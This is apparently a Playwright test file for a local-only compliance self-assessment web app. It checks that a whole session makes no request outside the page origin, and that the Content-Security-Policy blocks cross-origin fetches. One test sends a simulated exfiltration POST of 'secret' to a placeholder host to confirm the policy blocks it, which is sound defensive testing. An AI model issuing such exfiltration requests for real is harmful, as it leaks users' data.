// Zero egress, proven: every request of a whole session is recorded at the DevTools-protocol
// level (which sees what page.on('request') can miss: workers, preloads, beacons) and at the
// browser context's (which also sees the service worker's own, its precache), and the
// Content-Security-Policy is shown to block a fetch to another origin.
const { test, expect } = require('@playwright/test');
const { AppPage } = require('./app-page');

test('a whole session makes no request outside the page origin', async ({ page }) => {
  const cdp = await page.context().newCDPSession(page);
  await cdp.send('Network.enable');
  const seen = [];
  cdp.on('Network.requestWillBeSent', (e) => seen.push(e.request.url));
  cdp.on('Network.webSocketCreated', (e) => seen.push(e.url));
  const fromWorker = [];
  page.context().on('request', (r) => {
    seen.push(r.url());
    if (r.serviceWorker()) fromWorker.push(r.url());
  });

  const app = new AppPage(page);
  await app.open();
  // The service worker has precached the build (its requests are recorded too) and serves the rest.
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await app.answerYesNo('handles_fci', 'yes');
  await app.answerYesNo('handles_cui', 'yes');
  await app.choose('solicitation', 'L2-c3pao');
  await app.loadSample();
  await app.importSoa(app.fixture('iso2022_full.csv'));
  await app.answerRequirement('3.1.1', 'met');
  await app.download('export-csv');
  const json = await app.download('export-json');
  await app.reload();
  await app.deleteAllData();
  await app.restoreJson(json.file);
  await expect(app.testid('sprs-score')).not.toHaveText('');
  await page.waitForTimeout(500);

  const origin = new URL(page.url()).origin;
  const foreign = seen.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
  expect(foreign).toEqual([]);
  expect(app.foreignRequests()).toEqual([]);
  expect(fromWorker.length).toBeGreaterThan(0);
  // Nothing but the page's own static files was ever requested.
  const paths = [...new Set(seen.filter((u) => u.startsWith(origin)).map((u) => new URL(u).pathname))];
  for (const p of paths) {
    // content/: the methodology and the samples, files of the build loaded on demand.
    expect(p).toMatch(/^\/($|index\.html$|manifest\.webmanifest$|(icons\/)?[\w.-]+\.(js|wasm|css|svg|png)$|content\/(samples\/)?[\w.-]+\.(md|csv|json)$)/);
  }
});

test('the Content-Security-Policy is present and blocks a fetch to another origin', async ({ page }) => {
  const app = new AppPage(page);
  const response = await page.goto('/');
  await page.waitForSelector('[data-testid="step-questionnaire"]');
  app.origin = new URL(page.url()).origin;
  const header = response.headers()['content-security-policy'] || '';
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const policy of [header, meta]) {
    expect(policy).toContain("connect-src 'self'");
    expect(policy).toContain("default-src 'self'");
    expect(policy).not.toContain('unsafe-inline');
  }
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let result;
    try {
      await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'secret' });
      result = 'sent';
    } catch (e) {
      result = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 100));
    return { result, violations };
  });
  expect(outcome.result).toBe('blocked');
  expect(outcome.violations).toContain('connect-src');
  expect(app.foreignRequests()).toEqual([]);
});
